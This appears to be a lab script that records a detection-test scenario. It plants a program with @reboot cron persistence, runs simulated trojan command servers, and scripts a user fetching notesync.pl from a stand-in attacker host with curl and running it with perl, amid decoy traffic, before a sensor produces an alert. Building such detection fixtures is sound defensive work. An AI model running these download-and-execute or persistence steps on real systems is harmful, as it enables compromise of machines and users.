#!/bin/bash
# Records the sample same-destination. Run as root on a machine of your own; results in /opt/lab/out/same-destination.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
lab_begin "$here" desk-9 10.20.0.9 fd00:20::9

install -d -o $OUT_UID "$RUN/attacker"
cp "$RUN/notesync.pl" "$RUN/attacker/"; seq 1 60 > "$RUN/attacker/blog.html"
install -D -m 755 -o emi -g emi "$RUN/fleetd.py" /home/emi/.cache/fleetd
chown emi:emi /home/emi/.cache
rm -f /tmp/.n
for ip in $BAD_IP $BAD_IP6; do
  words="who where list"; [ $ip = $BAD_IP ] && words="who copy read"
  lab_outside python3 "$RUN/c2.py" $ip 443 "$RUN/seen-$ip.json" 2900404 "LAB TROJAN known command server" $words
done
lab_outside python3 -m http.server --bind $BAD_IP --directory "$RUN/attacker" 8080
lab_outside python3 -m http.server --bind $BAD_IP6 --directory "$RUN/attacker" 80
lab_outside python3 -m http.server --bind $WEB_IP --directory $LAB/www 443

# cron starts emi's program when it starts itself, long before kenji does anything.
sample_crontabs() {
  printf '@reboot /home/emi/.cache/fleetd\n' | crontab -u emi -
}

lab_audit_on RAW 500 1
lab_noise_on 1.8

# alice reads a page on the same address, another port; bob's program calls another address, the same port,
# and then the same address on a port where nobody listens.
lab_login alice "sleep 20; curl -s -o /dev/null 'http://[$BAD_IP6]/blog.html'; sleep 28; curl -s -o /dev/null 'http://[$BAD_IP6]/blog.html'" &
page=$!
lab_login bob "sleep 25; curl -s -o /dev/null http://$WEB_IP:443/news.html; python3 -c 'import socket; socket.create_connection((\"$BAD_IP6\", 444))'; sleep 20; curl -s -o /dev/null http://$WEB_IP:443/news.html" &
other=$!

sleep 15
lab_terminal kenji <<TYPED
3 ls
5 cd Downloads
2 curl -s -O http://$BAD_IP:8080/notesync.pl
3 head -2 notesync.pl
6 perl notesync.pl
16 cd
1 ls -la Documents
TYPED
sleep 15
lab_noise_off
wait $page $other
lab_audit_off
rm -f /tmp/.n
python3 "$RUN/sensor.py" plain "$(grep -l '"said": "kenji' "$RUN"/seen-$BAD_IP6.json.* | head -1)" "$OUT/alert.json"
